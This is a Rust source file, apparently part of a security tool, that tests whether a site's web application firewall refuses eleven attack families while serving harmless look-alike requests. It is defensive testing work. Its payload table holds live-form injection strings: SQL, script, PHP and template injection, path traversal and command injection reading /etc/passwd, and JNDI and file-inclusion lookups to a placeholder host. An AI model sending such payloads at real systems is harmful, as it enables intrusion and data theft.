//! waf.attack_set: one attack of each family, in each place where one can stand, beside something harmless in the same
//! place.
//!
//! Nothing here does harm where it is not stopped: what is asked for is a page that exists or one that no site has, and
//! the texts name nothing that an application would run by accident.

use reeve_base::Cause;
use reeve_policy::catalogue::WafAttackSet;
use serde_json::Value;

use super::{Kept, Notes, Probe, Running, Sends, Twin};
use crate::Target;
use crate::wire::Site;
use crate::wire::desk::ExcludeStatus;
use crate::wire::exchange::{End, Until};

impl Probe for WafAttackSet {
    fn plan(&self, _: &Target) -> Sends {
        let count = u32::try_from(2 * FAMILIES.len() * Place::TEXTS.len()).unwrap_or(u32::MAX);
        Sends::requests(count, "attacks of each family in query, form and JSON, and harmless texts in the same places")
    }

    fn run<'p>(&'p self, site: &'p Site, notes: &'p mut Notes) -> Running<'p> {
        Box::pin(async move {
            let mut narrowed = String::new();
            if site.house().is_ok() {
                let waf = site.status().await?.waf;
                for path in waf.only_detects {
                    notes.fault(format!("under {path} rules only find, and nothing is refused"));
                }
                narrowed = tell_exclusions(notes, waf.excludes);
            }
            let mut seen = Seen::default();
            for (number, family) in FAMILIES.iter().enumerate() {
                for place in family.places(site, number) {
                    seen.tell(notes, family, place, tried(site, family, place).await?);
                }
            }
            if !site.has_own_sources() {
                notes.saw("each family in one place only: whoever is refused more often might be banned");
            }
            let nothing = || {
                Cause::Unexpected(String::from("harmless texts are refused everywhere, so that nothing can be seen"))
            };
            let twin = seen.twin.ok_or_else(nothing)?;
            if notes.faults() == 0 && seen.families < FAMILIES.len() {
                let text = format!("only {} of {} families could be tried", seen.families, FAMILIES.len());
                return Err(Cause::Unexpected(text));
            }
            Ok(Kept::with(
                twin,
                format!(
                    "attacks of {} families refused in {} places, harmless twins served{narrowed}",
                    seen.families, seen.refused
                ),
            ))
        })
    }
}

/// What is left out of rules narrows what they promise, and does not end it: attacks of each family are still refused
/// where they are tried. So it is told, and judged by those who read it. What is to be said of it in short.
fn tell_exclusions(notes: &mut Notes, mut excludes: Vec<ExcludeStatus>) -> String {
    excludes.sort_by_key(|one| one.until);
    let Some(first) = excludes.first() else { return String::new() };
    let (count, end) = (excludes.len(), first.until.strftime("%Y-%m-%d %H:%M UTC"));
    let s = if count == 1 { "" } else { "s" };
    for one in excludes.iter().take(EXCLUSIONS_SHOWN_MAX) {
        notes.saw(format!("left out until {}: {}", one.until.strftime("%Y-%m-%d %H:%M UTC"), one.what));
    }
    let more = count.saturating_sub(EXCLUSIONS_SHOWN_MAX);
    if more > 0 {
        notes.saw(format!("left out: {more} more"));
    }
    format!("; {count} exclusion{s} from the rules, the first until {end}")
}

/// What has been seen so far.
#[derive(Default)]
struct Seen {
    twin: Option<Twin>,
    /// Families that were refused somewhere, or not.
    families: usize,
    family: &'static str,
    refused: usize,
}

impl Seen {
    fn tell(&mut self, notes: &mut Notes, family: &Family, place: Place, met: Met) {
        let what = format!("{} in {}", family.name, place.name());
        let judged = !matches!(met, Met::TwinRefused(_) | Met::RefusedAnyway(_));
        if judged && self.family != family.name {
            self.family = family.name;
            self.families += 1;
        }
        match met {
            Met::TwinRefused(status) => notes.fault(format!("a harmless twin of {what} is refused with {status}")),
            Met::RefusedAnyway(status) => notes.saw(format!("{what}: {status}, as its twin, so it is not judged")),
            Met::Stopped(twin, attack) => {
                self.refused += 1;
                self.twin = Some(Twin::seen(notes, format!("{what}: {attack}; its harmless twin: {twin}")));
            }
            Met::Passed(twin, attack) => {
                self.twin = Some(Twin::seen(notes, format!("the harmless twin of {what}: {twin}")));
                notes.fault(format!("{what} passes ({attack})"));
            }
        }
    }
}

/// What became of an attack and its twin.
enum Met {
    /// The twin was served, the attack was not.
    Stopped(u16, String),
    /// Both were served.
    Passed(u16, u16),
    /// The twin was refused as attacks are.
    TwinRefused(u16),
    /// Both were refused for the same other reason.
    RefusedAnyway(u16),
}

async fn tried(site: &Site, family: &Family, place: Place) -> Result<Met, Cause> {
    let (twin, _) = sent(site, place, &family.benign).await?;
    let (attack, path) = sent(site, place, &family.attack).await?;
    let Some(twin) = twin.status else {
        return Err(Cause::Unreachable(format!("a harmless request in {} is not answered", place.name())));
    };
    if REFUSED.contains(&twin) {
        return Ok(Met::TwinRefused(twin));
    }
    match attack.status {
        None => Ok(Met::Stopped(twin, attack.summary)),
        Some(status) if REFUSED.contains(&status) => Ok(Met::Stopped(twin, attack.summary)),
        Some(status) if status < 400 => Ok(Met::Passed(twin, status)),
        Some(status) => {
            Ok(if was_refused(site, &path).await? { Met::RefusedAnyway(status) } else { Met::Passed(twin, status) })
        }
    }
}

/// Whether it was the gateway that answered with an error and not the application. Only the inside tells.
async fn was_refused(site: &Site, path: &str) -> Result<bool, Cause> {
    if site.house().is_err() {
        // An application that knows no such page says the same as a gateway that lets nobody ask for it.
        return Ok(true);
    }
    let found = site.find("object", path).await?;
    let controls: Vec<_> = found
        .iter()
        .filter(|entry| entry.event.get("outcome").and_then(Value::as_str) == Some("refused"))
        .filter_map(|entry| entry.event.get("control").and_then(Value::as_str))
        .collect();
    // Its page for errors is a control as well, and stands behind the application.
    Ok(controls.iter().any(|control| *control != "error.page"))
}

struct Reply {
    status: Option<u16>,
    summary: String,
}

/// Sends one text, and says on which path.
async fn sent(site: &Site, place: Place, sample: &Sample) -> Result<(Reply, String), Cause> {
    // From elsewhere: whoever is refused often enough is banned, and this is not what is tried here.
    let elsewhere = site.elsewhere()?;
    let path = place.path(site)?;
    let bytes = place.request(site, &path, sample);
    let met = elsewhere.send_raw(&bytes, Until::Answers(1)).await?;
    match (met.status(), met.end) {
        (None, End::Open) => Err(Cause::Unreachable(String::from("no answer"))),
        (status, _) => Ok((Reply { status, summary: met.summary() }, path)),
    }
}

/// A part of a request.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Place {
    Query,
    Form,
    Json,
    Agent,
}

impl Place {
    const TEXTS: [Self; 3] = [Self::Query, Self::Form, Self::Json];

    const fn name(self) -> &'static str {
        match self {
            Self::Query => "the query",
            Self::Form => "a form",
            Self::Json => "JSON",
            Self::Agent => "User-Agent",
        }
    }

    /// A page that exists for what is read, and one that no site has for what would write.
    fn path(self, site: &Site) -> Result<String, Cause> {
        match self {
            Self::Query | Self::Agent => Ok(String::from("/")),
            Self::Form | Self::Json => Ok(site.invented_path()?),
        }
    }

    fn request(self, site: &Site, path: &str, sample: &Sample) -> Vec<u8> {
        let Sample { field, text, beside } = *sample;
        let head = |line: String, agent: &str, more: String| {
            let host = site.target().authority();
            format!(
                "{line} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {agent}\r\nAccept: text/html,*/*;q=0.8\r\n\
                 {beside}Connection: close\r\n{more}\r\n"
            )
            .into_bytes()
        };
        let own = site.user_agent();
        let post = |kind: &str, body: String| {
            let more = format!("Content-Type: {kind}\r\nContent-Length: {}\r\n", body.len());
            [head(format!("POST {path}"), own, more), body.into_bytes()].concat()
        };
        let (name, escaped) = (percent(field), percent(text));
        match self {
            Self::Query => head(format!("GET {path}?{name}={escaped}"), own, String::new()),
            Self::Form => post("application/x-www-form-urlencoded", format!("{name}={escaped}")),
            Self::Json => post("application/json", serde_json::json!({ field: text }).to_string()),
            Self::Agent => head(format!("GET {path}"), text, String::new()),
        }
    }
}

fn percent(text: &str) -> String {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-._~".contains(&byte);
    text.bytes().map(|byte| if plain(byte) { char::from(byte).to_string() } else { format!("%{byte:02X}") }).collect()
}

/// A kind of attack, and something harmless that looks a little like it.
struct Family {
    name: &'static str,
    attack: Sample,
    benign: Sample,
    places: &'static [Place],
}

/// What is sent.
struct Sample {
    /// The name of the parameter or member, where there is one.
    field: &'static str,
    text: &'static str,
    /// Further fields of the head, each with its end.
    beside: &'static str,
}

impl Family {
    /// All of its places; one of them, another for each family, if a refusal counts against this machine.
    fn places(&self, site: &Site, number: usize) -> Vec<Place> {
        if site.has_own_sources() {
            return self.places.to_vec();
        }
        self.places.get(number % self.places.len().max(1)).copied().into_iter().collect()
    }
}

const fn sample(field: &'static str, text: &'static str) -> Sample {
    Sample { field, text, beside: "" }
}

const fn everywhere(name: &'static str, attack: &'static str, benign: &'static str) -> Family {
    Family { name, attack: sample("probe", attack), benign: sample("probe", benign), places: &Place::TEXTS }
}

const FAMILIES: [Family; 11] = [
    everywhere("SQL injection", "1' UNION SELECT name, secret FROM reeve_probe -- ", "union station, select seats"),
    everywhere("script injection", "<script>alert('reeve-probe')</script>", "a script for a play, scene 1"),
    everywhere("path traversal", "../../../../../../etc/passwd", "files/reports/2026/summary.pdf"),
    Family {
        name: "remote file inclusion",
        attack: sample("file", "http://192.0.2.1/reeve-probe.txt?"),
        benign: sample("file", "report-2026.pdf"),
        places: &Place::TEXTS,
    },
    everywhere("command injection", "; cat /etc/passwd", "cats and dogs"),
    everywhere("PHP injection", "<?php system('id'); ?>", "a course on PHP, on Mondays"),
    everywhere(
        "template injection",
        "{{config.__class__.__init__.__globals__['os'].popen('cat /etc/passwd').read()}}",
        "dear {name}",
    ),
    everywhere("lookup injection", "${jndi:ldap://192.0.2.1/reeve-probe}", "$20 for two tickets"),
    Family {
        name: "session fixation",
        attack: Sample { beside: FOREIGN, ..sample("jsessionid", "reeveprobe0123456789") },
        benign: Sample { beside: FOREIGN, ..sample("probe", "reeveprobe0123456789") },
        places: &[Place::Query],
    },
    Family {
        name: "scanner",
        attack: sample("", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
        benign: sample("", "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"),
        places: &[Place::Agent],
    },
    Family {
        name: "NoSQL injection",
        attack: sample("user[$ne]", "1"),
        benign: sample("user[name]", "1"),
        places: &[Place::Query, Place::Form],
    },
];

/// Whoever plants a session sends its victim over from elsewhere.
const FOREIGN: &str = "Referer: https://reeve-probe.example/\r\n";

/// Exclusions that evidence names each.
const EXCLUSIONS_SHOWN_MAX: usize = 16;

/// What a refusal by rules is answered with: 403, or what a rule set says of a text that it cannot read.
const REFUSED: [u16; 2] = [403, 406];
